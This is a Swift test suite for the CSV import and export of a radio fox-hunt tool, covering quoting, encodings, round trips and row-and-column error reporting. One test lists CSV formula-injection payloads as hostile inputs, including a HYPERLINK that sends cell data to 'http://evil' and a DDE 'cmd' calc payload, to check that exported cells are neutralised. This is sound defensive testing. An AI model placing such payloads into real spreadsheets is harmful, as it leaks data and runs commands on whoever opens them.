// A hunt as a table: what goes in comes out, and what is wrong is named by row and column.
import Foundation
import Testing

@testable import fox_sync

@Suite("fox-sync event", .timeLimit(.minutes(20)))
struct EventTests {
    private func table(_ text: String) throws -> [[String]] {
        try CSVTable(Array(text.utf8)).rows.map(\.cells)
    }

    @Test("quotes, line breaks in cells, byte-order mark, separators and line ends")
    func reading() throws {
        #expect(try table("a,b\r\n1,2\r\n") == [["a", "b"], ["1", "2"]])
        #expect(try table("\u{feff}a;b\n1,5;2") == [["a", "b"], ["1,5", "2"]])
        #expect(try table("a\tb\r1\t2\r") == [["a", "b"], ["1", "2"]])
        #expect(try table("sep=;\r\na;b,c\r\n") == [["a", "b,c"]])
        #expect(try table("a,\"b,\"\"c\"\"\r\nd\"\n,x\n") == [["a", "b,\"c\"\r\nd"], ["", "x"]])
        #expect(try table("a\n\n,,\nb\n") == [["a"], ["b"]])
        #expect(try CSVTable(Array("a\n\nb\n".utf8)).rows.map(\.number) == [1, 3])
        #expect(try table("") == [])
    }

    @Test(
        "what no spreadsheet means is refused, with its row",
        arguments: [
            ("a\nb \"c\"", 2), ("a\n\"b", 2), ("a\n\"b\"c", 2), ("a\n\n\"b\" ,c", 3),
        ])
    func refused(_ text: String, _ row: Int) {
        #expect { try table(text) } throws: { ($0 as? CSVTable.Problem)?.row == row }
    }

    @Test("other encodings are refused politely")
    func encodings() {
        let latin = Array("a\nM".utf8) + [0xfc]
        #expect { try CSVTable(latin) } throws: { ($0 as? CSVTable.Problem)?.row == 2 }
        #expect { try CSVTable([0xff, 0xfe, 0x61, 0]) } throws: {
            ($0 as? CSVTable.Problem)?.reason.contains("UTF-16") == true
        }
    }

    @Test("what is written is read again as it was")
    func writing() throws {
        let rows = [["name", "x"], ["a \"b\"", " c;d\te,f\r\ng"], ["ü", ""]]
        #expect(try table(CSVTable.text(rows)) == rows)
    }

    @Test("no cell is a formula to a spreadsheet, and each comes back as it was")
    func formulas() throws {
        let hostile = [
            "=HYPERLINK(\"http://evil\"&B2,\"K1FOX\")", "-2+3+cmd|' /C calc'!A0", "@SUM(A1)", "+A1",
            "\t=1", "\r=1", "'=1", "''=1", "--1", "+", "-1e5", "=",
        ]
        let harmless = ["-0.5", "+146.52", "12", "'s", "'", "a=b", "K1FOX-1", ""]
        let written = CSVTable.text([hostile + harmless])
        #expect(try table(written) == [hostile + harmless])
        let cells = written.split(separator: ",", omittingEmptySubsequences: false).map {
            $0.drop { $0 == "\"" }
        }
        for cell in cells {
            let isSign = cell.first.map { "=+-@\t\r".contains($0) } ?? false
            #expect(!isSign || Double(cell.filter { $0 != "\"" }) != nil, "\(cell)")
        }
        #expect(CSVTable.text([harmless]) == harmless.joined(separator: ",") + "\r\n")
    }

    private static let hunt = """
        \u{feff}Name;Callsign;Frequency;Device;Audio;MORSE_WPM
        moe;K7ABC;145,3;E6614C311B6A5B2C;sounds/a.wav;20
        "moi 2";k7abd;145.400;;;

        """

    @Test("a hunt becomes drafts, goes out as a table, and comes back the same")
    func roundTrip() throws {
        let program = try Program()
        let file = try program.write(Self.hunt, to: "hunt.csv")
        try program.wav(to: "sounds/a.wav", sample: 4)
        let dry = try program.run("event", "import", file, "--dry-run")
        #expect(dry.status == 0, "\(dry.err)")
        #expect(!FileManager.default.fileExists(atPath: program.folder + "/home/drafts/moe"))
        let made = try program.run("event", "import", file)
        #expect(made.status == 0, "\(made.err)")
        let root = program.folder + "/home/drafts/"
        #expect(try program.text(root + "moe/settings.txt").contains("FREQ_MHZ=145.300000\n"))
        #expect(try program.text(root + "moe/settings.txt").contains("MORSE_WPM=20\n"))
        #expect(try program.text(root + "moi 2/settings.txt").contains("CALLSIGN=K7ABD\n"))
        #expect(FileManager.default.fileExists(atPath: root + "moe/audio.wav"))
        #expect(try program.run("devices").out.contains("never seen"))
        let out = program.folder + "/out.csv"
        #expect(try program.run("event", "export", out).status == 0)
        #expect(try program.run("event", "export", out).status == 3)
        let first = try program.text(out)
        #expect(try program.run("event", "export", "-").out == first)
        // Elsewhere, nothing is there yet.
        let other = try Program()
        #expect(try other.run("event", "import", out).status == 0)
        let again = try other.run("event", "export", "-").out
        #expect(
            again.replacing(other.folder, with: "") == first.replacing(program.folder, with: ""))
        // And over itself it changes nothing.
        #expect(try program.run("event", "import", out).status == 0)
        #expect(try program.run("draft", "undo", "moe", "--list").out.contains("no earlier"))
    }

    @Test("one wrong cell, and nothing is done; each is named by row and column")
    func wrongCells() throws {
        let program = try Program()
        try program.draft("old")
        let before = try program.text(program.folder + "/home/drafts/old/settings.txt")
        let file = try program.write(
            """
            name,callsign,frequency,device,audio,MORSE_WPM
            good,K7ABC,145.3,,,
            old,K1XYZ,145.3,,,
            a/b,K7ABC,145.3,,,
            far,K7ABC,99,,,
            who,K7ABC,145.3,zz,,
            wav,K7ABC,145.3,,nowhere.wav,
            fast,K7ABC,145.3,,,99
            GOOD,K7ABC,145.3,,,
            long,K7ABC,145.3,,,,x
            """, to: "hunt.csv")
        let first = try program.run("event", "import", file)
        #expect(first.status == 5)
        for wanted in [
            "row 4, column 'name'", "row 6, column 'device'", "row 9, column 'name'",
            "row 10: it has 7 cells",
        ] {
            #expect(first.err.contains(wanted), "\(first.err)")
        }
        let kept = try program.text(file).split(separator: "\n")
            .filter { !$0.contains("a/b") && !$0.contains("zz") && !$0.hasPrefix("GOOD") }
            .filter { !$0.hasPrefix("long") }
        try program.write(kept.joined(separator: "\n"), to: "hunt.csv")
        let second = try program.run("event", "import", file)
        #expect(second.status == 5)
        for wanted in [
            "row 4, column 'frequency'", "row 5, column 'audio'", "row 6, column 'MORSE_WPM'",
        ] {
            #expect(second.err.contains(wanted), "\(second.err)")
        }
        #expect(try program.text(program.folder + "/home/drafts/old/settings.txt") == before)
        #expect(
            try FileManager.default.contentsOfDirectory(atPath: program.folder + "/home/drafts")
                == ["old"])
    }

    @Test("a file or fox that is not there is exit code 4, unless something else is wrong, too")
    func missing() throws {
        let program = try Program()
        for (rows, status) in [
            ("a,145.3,,gone.mp3", 4), ("a,145.3,no such,", 4), ("a,99,,gone.mp3", 5),
            ("a,145.3,,gone.mp3\nb,99,,", 5),
        ] {
            let file = try program.write(
                "name,frequency,device,audio\n" + rows + "\n", to: "hunt.csv")
            let outcome = try program.run("event", "import", file)
            #expect(outcome.status == Int32(status), "\(rows): \(outcome.err)")
            #expect(program.allDrafts().isEmpty)
        }
    }

    @Test("unknown and double columns are named")
    func columns() throws {
        let program = try Program()
        let file = try program.write("name,colour,call,callsign\na,b,c,d\n", to: "hunt.csv")
        let outcome = try program.run("event", "import", file)
        #expect(outcome.status == 5)
        #expect(outcome.err.contains("column 'colour'"))
        #expect(outcome.err.contains("column 'callsign': it is there twice"))
        #expect(try program.run("event", "import", "/nowhere.csv").status == 4)
    }
}
